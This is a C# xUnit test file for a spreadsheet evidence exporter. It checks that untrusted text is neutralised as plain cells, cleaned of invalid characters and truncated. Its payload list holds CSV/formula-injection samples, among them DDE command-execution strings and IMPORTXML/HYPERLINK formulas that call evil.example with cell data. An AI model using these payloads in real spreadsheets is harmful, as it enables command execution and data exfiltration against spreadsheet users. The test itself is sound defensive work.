using AccessReview.Core.Evidence.Workbook;
using Xunit;

namespace AccessReview.Core.Tests.Evidence;

/// <summary>The fear: a text of somebody else's system does something in the auditor's spreadsheet, or stops the export.</summary>
public sealed class HostileTextTests
{
    public static TheoryData<string> FormulaPayloads =>
    [
        "=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "=cmd|' /C calc'!A0",
        "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "=DDE(\"cmd\",\"/C calc\",\"x\")", "\n=1+1", "\r=1+1", "  =1+1", "'=1+1", "'' +1",
    ];

    public static TheoryData<string> LookAlikes => ["00123", "1E5", "TRUE", "2024-01-02", "1/2", "12:30", "12345678901234567", "#N/A", " ", "'quoted"];

    [Theory]
    [MemberData(nameof(FormulaPayloads))]
    public async Task A_text_that_looks_like_a_formula_is_text_with_an_apostrophe_before_it(string payload)
    {
        using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: payload));
        var tab = book["Decisions"];
        Assert.Equal("inlineStr", tab.Type("C3"));
        Assert.Null(tab.Formula("C3"));
        Assert.Equal("'" + payload.Replace('\r', '\n'), tab.Text("C3"));
    }

    [Theory]
    [MemberData(nameof(LookAlikes))]
    public async Task A_text_stays_the_text_it_was_whatever_it_looks_like(string text)
    {
        using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: text));
        Assert.Equal(("inlineStr", text), (book["Decisions"].Type("C3"), book["Decisions"].Text("C3")));
        Assert.Equal("49", (string?)book.Formats[book["Decisions"].Style("C3")].Attribute("numFmtId"));
    }

    [Theory]
    [InlineData("a\u0001b\0c\u000bd", "abcd")]
    [InlineData("a\ufffe\uffff", "a\ufffd\ufffd")]
    [InlineData("one\r\ntwo\rthree", "one\ntwo\nthree")]
    [InlineData("😀 <b>&amp;\"'", "😀 <b>&amp;\"'")]
    public async Task What_no_cell_can_hold_is_replaced_and_the_rest_is_kept(string text, string kept)
    {
        using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: text));
        Assert.Equal(kept, book["Decisions"].Text("C3"));
    }

    /// <summary>A campaign whose name held a character that no XML can hold had no evidence at all: its name stands on the first row of every sheet.</summary>
    [Fact]
    public async Task What_no_cell_can_hold_is_replaced_on_the_first_row_too()
    {
        using var stream = await WorkbookSample.WriteAsync(WorkbookSample.Contents(WorkbookSample.Decisions()) with { Notice = "Interim 1 · Heap\u0001 \ufffe" });
        using var book = new RawWorkbook(stream);
        Assert.StartsWith("Interim 1 · Heap \ufffd · ", book["Decisions"].Text("A1"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_text_of_nothing_but_control_characters_says_that_there_is_no_value()
    {
        using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: "\u0001\u0002"));
        Assert.Equal("does not apply", book["Decisions"].Text("C3"));
    }

    [Fact]
    public async Task A_text_that_spells_an_escape_keeps_its_letters()
    {
        using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: "_x0041_ and _x00e4_ and _xyz"));
        Assert.Equal("_x005F_x0041_ and _x005F_x00e4_ and _xyz", book["Decisions"].Text("C3"));
    }

    [Theory]
    [InlineData(32_700)]
    [InlineData(32_701)]
    [InlineData(500_000)]
    public async Task A_text_too_long_for_a_cell_is_cut_and_says_by_how_much(int length)
    {
        using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: new string('x', length)));
        var text = book["Decisions"].Text("C3")!;
        Assert.True(text.Length <= 32_767);
        Assert.Equal(
            length <= SafeText.MaxLength ? new string('x', length) : new string('x', 32_700) + $"…[cut: {length - 32_700} chars, see events.jsonl]", text);
    }

    [Fact]
    public async Task Half_a_character_is_replaced()
    {
        // Not inline data: half a character does not survive the way into an attribute.
        using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: "a" + (char)0xD800 + "b" + (char)0xDC00));
        Assert.Equal("a\ufffdb\ufffd", book["Decisions"].Text("C3"));
    }

    [Fact]
    public void A_cut_does_not_split_a_character() =>
        Assert.StartsWith(new string('x', 32_699) + "…[cut: 4 ", SafeText.Clean(new string('x', 32_699) + "😀😀"), StringComparison.Ordinal);

    [Fact]
    public void A_text_with_more_lines_than_a_cell_takes_is_cut_after_the_last_that_fits()
    {
        var text = SafeText.Clean(string.Concat(Enumerable.Repeat("x\n", 300)));
        Assert.Equal(253, text.Count(c => c == '\n'));
        Assert.EndsWith("x…[cut: 93 chars, see events.jsonl]", text, StringComparison.Ordinal);
    }
}
